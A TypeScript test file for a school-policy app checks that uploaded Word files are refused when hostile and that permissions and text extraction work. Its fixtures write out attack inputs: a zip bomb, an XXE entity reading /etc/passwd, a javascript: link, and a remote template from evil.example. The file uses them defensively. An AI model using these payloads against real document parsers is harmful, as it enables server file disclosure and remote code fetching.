import assert from 'node:assert/strict'
import { Readable } from 'node:stream'
import { test } from 'node:test'
import { deflateRawSync } from 'node:zlib'
import { NotAllowed, NotFound, Refused } from '#/kernel/refusal.ts'
import { reading } from '#/platform/context.ts'
import { aPolicy, policyWorld } from '../../../test/a-policy.ts'
import { checkWordFile } from './check-word-file.ts'
import { importWord } from './import-word.ts'
import { paragraphsOf } from './paragraph-store.ts'
import { policyDocument } from './policy-document.ts'
import { readParts } from './read-policy.ts'
import { paragraphsIn, readWord } from './read-word.ts'
import { documentForms } from './routes-public.ts'
import { sendForApproval } from './send-for-approval.ts'
import { findVersion } from './version-store.ts'

type Parts = Record<string, string | Buffer>

const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
const paragraph = (text: string, style = '') =>
  `<w:p>${style && `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>`}<w:r><w:t>${text}</w:t></w:r></w:p>`
const documentOf = (body: string) =>
  `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`
const styles = `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style></w:styles>`
const documentRelations = (inner = '') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>${inner}</Relationships>`
const external = (kind: string, target: string) =>
  documentRelations(
    `<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`,
  )

const plain: Parts = {
  '[Content_Types].xml': types,
  '_rels/.rels': relations,
  'word/_rels/document.xml.rels': documentRelations(),
  'word/styles.xml': styles,
  'word/document.xml': documentOf(
    paragraph('2. Phones', 'Heading1') +
      paragraph('Phones stay in bags &amp; lockers.') +
      paragraph('Always.'),
  ),
}

/** A ZIP as Word writes one; each part can be given another size than it has. */
function zipOf(parts: Parts, claimed?: number): Buffer {
  const entries = Object.entries(parts).map(([name, content]) => {
    const bytes = Buffer.from(content)
    return { name: Buffer.from(name), size: claimed ?? bytes.length, packed: deflateRawSync(bytes) }
  })
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const { name, size, packed } of entries) {
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(size, 22)
    local.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(20, 6)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(size, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(at, 42)
    locals.push(local, name, packed)
    directory.push(entry, name)
    at += local.length + name.length + packed.length
  }
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(Buffer.concat(directory).length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...locals, ...directory, end])
}

const hostile: readonly [string, Buffer, RegExp][] = [
  ['no ZIP at all', Buffer.from('Dear parents, our policy'), /not a Word file/],
  ['a ZIP that is no document', zipOf({ 'a.txt': 'x' }), /not a Word file/],
  [
    'a bomb',
    zipOf({ ...plain, 'word/media/a.xml': Buffer.alloc(60 * 1024 * 1024) }),
    /far more than a policy/,
  ],
  [
    'a bomb that lies about its size',
    zipOf({ ...plain, 'word/media/a.png': Buffer.alloc(60 * 1024 * 1024) }, 10),
    /far more than a policy/,
  ],
  ['macros', zipOf({ ...plain, 'word/vbaProject.bin': 'x' }), /macros or other files/],
  [
    'a macro document',
    zipOf({
      ...plain,
      '[Content_Types].xml': types.replace(
        'wordprocessingml.document.main',
        'ms-word.document.macroEnabled.main',
      ),
    }),
    /may hold macros/,
  ],
  [
    'an entity from elsewhere',
    zipOf({
      ...plain,
      'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${documentOf(paragraph('&x;'))}`,
    }),
    /does not use/,
  ],
  [
    'entities that multiply',
    zipOf({ ...plain, 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "&c;&c;">]><a/>' }),
    /does not use/,
  ],
  [
    'XML that hides in another encoding',
    zipOf({ ...plain, 'word/document.xml': Buffer.from(documentOf(paragraph('a')), 'utf16le') }),
    /does not use/,
  ],
  [
    'a link that runs',
    zipOf({ ...plain, 'word/_rels/document.xml.rels': external('hyperlink', 'javascript:alert(1)') }),
    /link in the file/,
  ],
  [
    'a picture from a file of the server',
    zipOf({ ...plain, 'word/_rels/document.xml.rels': external('image', 'file:///etc/passwd') }),
    /fetches something/,
  ],
  [
    'a template from elsewhere',
    zipOf({
      ...plain,
      'word/_rels/settings.xml.rels': external('attachedTemplate', 'https://evil.example/t.dotm'),
    }),
    /fetches something/,
  ],
  ['another document inside', zipOf({ ...plain, 'word/embeddings/a.docx': 'x' }), /macros or other files/],
]

for (const [what, file, sentence] of hostile) {
  test(`a Word file is refused in a sentence: ${what}`, () => {
    assert.throws(
      () => checkWordFile(file),
      (error) => error instanceof Refused && sentence.test(error.message),
    )
  })
}

test('a file that is cut off anywhere is refused, and never breaks', () => {
  const file = zipOf(plain)
  for (let at = 0; at < file.length; at += 37) {
    assert.throws(() => checkWordFile(file.subarray(0, at)), Refused)
  }
})

test('of a Word file headings, paragraphs and lists are kept as plain words, and no markup', async () => {
  assert.deepEqual(await readWord(zipOf(plain)), [
    { heading: 'Phones', text: 'Phones stay in bags & lockers.', clauses: [] },
    { heading: 'Phones', text: 'Always.', clauses: [] },
  ])
  const link = external('hyperlink', 'https://school.example/rules')
  assert.equal((await readWord(zipOf({ ...plain, 'word/_rels/document.xml.rels': link }))).length, 2)
  const found = paragraphsIn(
    '<h2>3.1 Rules</h2><p>We <strong>say</strong> <a href="javascript:x">no</a>.</p><ul><li>one</li><li>two &lt;b&gt;</li></ul><p>&#60;script&#62;</p>',
  )
  assert.deepEqual(
    found.map(({ heading, text }) => [heading, text]),
    [
      ['Rules', 'We say no.\n- one\n- two <b>'],
      ['Rules', '<script>'],
    ],
  )
  const empty = zipOf({ ...plain, 'word/document.xml': documentOf('') })
  await assert.rejects(readWord(empty), /no text in this file/)
})

test('the text of a draft comes from a Word file and goes back into one; what is refused changes nothing', async (t) => {
  const world = await policyWorld(t)
  const { context, school, otherSchool } = world
  const { coordinator, teacher, head } = school.people
  const { versionId } = await aPolicy(world)
  const lines = () => reading(context, head, (tx) => paragraphsOf(tx, school.id, versionId))
  const before = await lines()
  const send = (file: Buffer, who = coordinator) => importWord(context, who, versionId, Readable.from([file]))
  await assert.rejects(send(zipOf({ ...plain, 'word/vbaProject.bin': 'x' })), Refused)
  await assert.rejects(send(Buffer.alloc(9 * 1024 * 1024)), /larger than 8 MB/)
  await assert.rejects(send(zipOf(plain), teacher), NotAllowed)
  await assert.rejects(send(zipOf(plain), otherSchool.people.head), NotFound)
  assert.deepEqual(await lines(), before)
  const parts = await reading(context, head, async (tx) =>
    readParts(context, tx, head, await findVersion(tx, head, versionId)),
  )
  const word = await documentForms.docx.write(policyDocument(parts))
  const again = await readWord(word)
  const printed = parts.paragraphs.map((one) => one.printed ?? one.text)
  for (const text of printed.slice(0, 5))
    assert.ok(
      again.some((one) => one.text.includes(text.slice(0, 60))),
      text,
    )
  assert.equal(await send(zipOf(plain)), 2)
  assert.deepEqual(
    (await lines()).map(({ number, heading }) => `${number} ${heading}`),
    ['1.1 Phones', '1.2 Phones'],
  )
  await sendForApproval(context, coordinator, versionId)
  await assert.rejects(send(zipOf(plain)), /text of this version is fixed/)
})
